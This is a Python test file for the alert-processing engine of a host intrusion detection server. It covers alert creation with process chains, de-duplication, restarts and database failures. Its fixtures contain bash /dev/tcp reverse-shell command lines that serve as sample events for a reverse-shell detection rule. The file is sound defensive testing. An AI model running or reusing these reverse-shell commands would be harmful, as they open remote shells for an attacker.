"""The engine runner over a real store: alerts with chains, de-duplication, restarts, failures."""

from __future__ import annotations

import threading
import time

import anyio
import pytest
from sqlalchemy import text

from elkeid.server.detection import EngineRunner, RuleManager
from elkeid.server.detection import _runner as runner_module
from elkeid.server.engine import RuleEngine
from elkeid.server.pipeline import Batch
from elkeid.server.store import AlertFilter, Store
from tests.unit.server.store._helpers import B, add_agent

SHELL = {"pid": "200", "ppid": "100", "exe": "/usr/bin/bash", "argv": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
         "pid_tree": "200.bash<100.sshd<1.systemd"}  # fmt: skip


@pytest.fixture
def store(tmp_path):
    s = Store(f"sqlite:///{tmp_path / 'db'}")
    add_agent(s, "a1", hostname="web-1")
    yield s
    s.close()


def make_runner(store, window: float = 3600.0) -> EngineRunner:
    engine, lock = RuleEngine(), threading.Lock()
    anyio.run(RuleManager(store, engine, lock, rules_dir=None).start, backend="asyncio")
    return EngineRunner(store, engine, lock, dedup_window=window)


def alerts(store) -> list[dict]:
    return store.list_alerts(AlertFilter(), limit=100)[0]


def test_a_detection_becomes_an_alert_with_host_name_and_chain(store):
    store.store_batches([B("a1", 1, [(59, 10, {"pid": "100", "ppid": "1", "exe": "/usr/sbin/sshd", "argv": "sshd: root"})])])
    runner = make_runner(store)
    new, repeats = runner.process_chunk([Batch("a1", 2, [(59, 11, dict(SHELL)), (59, 11, {"exe": "/usr/bin/ls"})])])
    assert repeats == [] and len(new) == 1
    alert = store.get_alert(new[0]["id"])
    assert (alert["rule_id"], alert["hostname"], alert["event"]["hostname"]) == ("reverse_shell_dev_tcp", "web-1", "web-1")
    assert [(c["pid"], c["source"], c["argv"]) for c in alert["process_chain"]] == [
        ("200", "event", SHELL["argv"]), ("100", "execve", "sshd: root"), ("1", "pid_tree", "")]
    assert runner.stats.records == 2 and runner.stats.alerts_new == 1 and runner.stats.detections == 1


def test_repeats_count_on_the_alert_within_a_chunk_and_across_chunks(store):
    runner = make_runner(store)
    new, repeats = runner.process_chunk([Batch("a1", 1, [(59, 1, dict(SHELL))] * 3)])
    assert len(new) == 1 and repeats == [{"dedup_key": new[0]["dedup_key"], "added": 2, "last_seen": repeats[0]["last_seen"]}]
    new2, repeats2 = runner.process_chunk([Batch("a1", 2, [(59, 2, dict(SHELL))])])
    assert new2 == [] and repeats2[0]["added"] == 1
    [only] = alerts(store)
    assert only["count"] == 4 and runner.stats.alerts_repeated == 3
    other = dict(SHELL, argv="bash -i >& /dev/tcp/198.51.100.1/80 0>&1")  # another key: another alert
    assert len(runner.process_chunk([Batch("a1", 3, [(59, 3, other)])])[0]) == 1


def test_an_ended_alert_is_raised_again(store):
    runner = make_runner(store)
    [first], _ = runner.process_chunk([Batch("a1", 1, [(59, 1, dict(SHELL))])])
    store.set_alert_status(first["id"], "open", "resolved", by="alice", comment="fixed")
    new, repeats = runner.process_chunk([Batch("a1", 2, [(59, 2, dict(SHELL))] * 2)])
    assert len(new) == 1 and new[0]["id"] != first["id"] and new[0]["count"] == 2 and repeats == []
    assert [(a["status"], a["count"]) for a in alerts(store)] == [("open", 2), ("resolved", 1)]
    runner.process_chunk([Batch("a1", 3, [(59, 3, dict(SHELL))])])
    assert [(a["status"], a["count"]) for a in alerts(store)] == [("open", 3), ("resolved", 1)]


def test_a_restarted_runner_counts_on_the_open_alerts(store):
    make_runner(store).process_chunk([Batch("a1", 1, [(59, 1, dict(SHELL))])])
    runner = make_runner(store)  # as after a restart
    send, receive = anyio.create_memory_object_stream[Batch](10)

    async def main():
        async with anyio.create_task_group() as tg:
            await tg.start(runner.run, receive)
            await send.send(Batch("a1", 2, [(59, 2, dict(SHELL))]))
            with anyio.fail_after(10):
                while runner.stats.batches < 1:
                    await anyio.sleep(0.01)
            tg.cancel_scope.cancel()

    anyio.run(main, backend="asyncio")
    send.close()
    assert [a["count"] for a in alerts(store)] == [2] and runner.stats.alerts_new == 0


def test_the_window_decides_what_is_a_repeat(store):
    runner = make_runner(store, window=0.05)
    runner.process_chunk([Batch("a1", 1, [(59, 1, dict(SHELL))])])
    time.sleep(0.1)
    runner.process_chunk([Batch("a1", 2, [(59, 2, dict(SHELL))])])
    assert [a["count"] for a in alerts(store)] == [1, 1]


def test_past_the_chain_budget_chains_come_from_pid_tree(store, monkeypatch):
    monkeypatch.setattr(runner_module, "CHAIN_BUDGET", 0.0)
    runner = make_runner(store)
    [new], _ = runner.process_chunk([Batch("a1", 1, [(59, 1, dict(SHELL))])])
    assert [(c["pid"], c["source"]) for c in new["process_chain"]] == [("200", "event"), ("100", "pid_tree"),
                                                                      ("1", "pid_tree")]  # fmt: skip
    assert runner.stats.chains_from_pid_tree_only == 1


def test_a_database_failure_is_retried_then_counted_and_detection_goes_on(store, monkeypatch, caplog):
    monkeypatch.setattr(runner_module, "STORE_RETRY_DELAY", 0.01)
    runner = make_runner(store)
    with store.engine.begin() as conn:  # the database really refuses: the table is gone
        conn.execute(text("ALTER TABLE alerts RENAME TO alerts_away"))
    assert runner.process_chunk([Batch("a1", 1, [(59, 1, dict(SHELL))])]) == ([], [])
    assert runner.stats.alerts_lost == 1 and "storing 1 alerts failed 4 times" in caplog.text
    with store.engine.begin() as conn:
        conn.execute(text("ALTER TABLE alerts_away RENAME TO alerts"))
    other = dict(SHELL, argv="bash -i >& /dev/tcp/198.51.100.1/80 0>&1")
    assert len(runner.process_chunk([Batch("a1", 2, [(59, 2, other)])])[0]) == 1


def test_derived_batches_are_counted_apart_and_have_no_lag(store):
    runner = make_runner(store)
    new, _ = runner.process_chunk([Batch("a1", 0, [(5052, 1, {"change": "added", "username": "eve", "uid": "0"})])],
                                  True)  # fmt: skip
    assert sorted(a["rule_id"] for a in new) == ["uid0_user_added_asset", "user_added_asset"]
    assert (runner.stats.derived_records, runner.stats.records, runner.stats.last_lag_seconds) == (1, 0, 0.0)
